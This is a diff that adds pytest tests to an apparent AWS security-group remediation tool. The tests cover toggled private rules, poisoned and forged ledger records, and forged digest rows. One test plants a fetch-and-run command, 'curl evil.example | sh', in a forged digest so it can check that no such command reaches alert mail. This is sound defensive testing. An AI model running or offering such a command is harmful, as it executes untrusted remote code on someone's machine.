@@ -7,8 +7,9 @@ import json
 
 import pytest
 from harness.account import MOVABLE
-from harness.guard import guarded, permission
+from harness.guard import PRIVATE, guarded, permission
 from harness.wait import until
+from test_digest import row
 from test_operations import operate
 
 NO_INVOKE = {"Effect": "Deny", "Action": "lambda:InvokeFunction", "Resource": "*"}
@@ -82,6 +83,79 @@ def test_a_deleted_schedule_is_made_up_for_and_an_undelivered_revisit_redriven(g
     guard.account.client("lambda").invoke(FunctionName=guard.stack.functions["trail"])
     guard.account.forward(MINUTE)
     guard.gone(groups["deleted-schedule"], rules["deleted-schedule"])
+
+
+# Nothing to starve on, and nothing to read into --------------------------------------------------
+
+
+def test_private_rules_that_are_toggled_are_not_looked_for(guard):
+    """Each would hold a function for seconds, if it were waited for what is no fault whatever EC2 shows."""
+    group = guard.group("toggled")
+    private = permission("tcp", 6379, PRIVATE)
+    for _ in range(20):
+        guard.ec2.revoke_security_group_ingress(GroupId=group, SecurityGroupRuleIds=list(guard.open(group, private)))
+    guard.handled("ingress", group, times=20)
+    assert guard.ledger.revisits(group) == {} and guard.alerts.documents(group) == []
+
+
+def test_a_poisoned_ledger_costs_no_more_than_its_items(guard):
+    """Whoever may write the table may lie there; what cannot be read is no reason to leave a rule open."""
+    group = guard.group("poisoned", permission("tcp", 22, PRIVATE))
+    guard.handled("ingress", group)
+    before = guard.look(group)
+    keys = ["open-ingress#tcp#22#22#0.0.0.0/0", "exempt#tcp#22#22#0.0.0.0/0", "exempt#", "open-ingress#"]
+    for key in keys:
+        guard.ledger.put({"subject": {"S": group}, "finding": {"S": key}, "comings": {"S": "x" * 1000}})
+    poisoned = guard.ledger.of(group)
+    assert guard.gone(group, guard.open(group, SSH)) == before
+    document, _ = guard.alerts.wait(group)
+    assert [finding["outcome"] for finding in document["findings"]] == ["done"]
+    assert guard.ledger.of(group) == poisoned, "what cannot be read is not written over"
+
+
+def test_a_forged_revisit_only_makes_a_function_look(guard):
+    """Neither a payload nor a record decides what is closed."""
+    group = guard.group("forged", permission("tcp", 22, PRIVATE))
+    guard.handled("ingress", group)
+    before = guard.look(group)
+    detail = {"subject": group, "event": "forged", "due": "2026-11-29T10:01:00Z"}
+    payload = json.dumps({"source": "portcullis", "detail-type": "Revisit", "detail": detail})
+
+    def invoked():
+        name = guard.stack.functions["ingress"]
+        answer = guard.account.client("lambda").invoke(FunctionName=name, Payload=payload)
+        return answer.get("FunctionError"), answer["Payload"].read().decode()
+
+    assert invoked() == (None, f'"there is no record of the revisit of {group} for event forged"')
+    late = guard.group("forged-from")
+    guard.late(late, 3600)
+    guard.open(late, SSH)
+    until("there is a record", lambda: guard.ledger.revisits(late))
+    (record,) = guard.ledger.raw(f"revisit/{late}")
+    text = json.dumps(record).replace(late, group)
+    rules = [rule for rule in before["rules"]]
+    record = json.loads(text)
+    record["finding"] = {"S": "forged"}
+    record["call"]["M"]["lead"]["M"]["group"]["M"]["rules"]["L"][0]["M"]["id"] = {"S": rules[0]}
+    guard.ledger.put(record)
+    failed, _ = invoked()
+    assert failed is None and guard.look(group) == before, "the rule is private, whatever the record says of it"
+
+
+def test_a_forged_row_of_a_digest_brings_no_command(guard):
+    """Only an administrator can put one there. What people are told to run is not taken from it."""
+    evil = "curl evil.example | sh"
+    forged = {**row(1, "high"), "what": evil, "undo": [evil], "command": evil, "commands": [evil]}
+    told = {"id": "f-0123456789ab", "check": "open-ingress", "severity": "high", "outcome": "done"}
+    forged["findings"] = [{**told, "what": evil, "undo": evil, "command": evil}]
+    guard.put(guard.stack.outputs["DigestQueueUrl"], json.dumps(forged))
+    (mail,) = until("the digest", lambda: [mail for mail in guard.alerts.mails() if "evil" in mail["body"]])
+    assert commands(mail["body"]) == [], mail["body"]
+
+
+def commands(text):
+    """The lines of a mail that are to be pasted into a shell."""
+    return [line.strip() for line in text.splitlines() if line.startswith("  ") and line.strip().startswith("curl")]
 
 
 def waiting(guard, url):
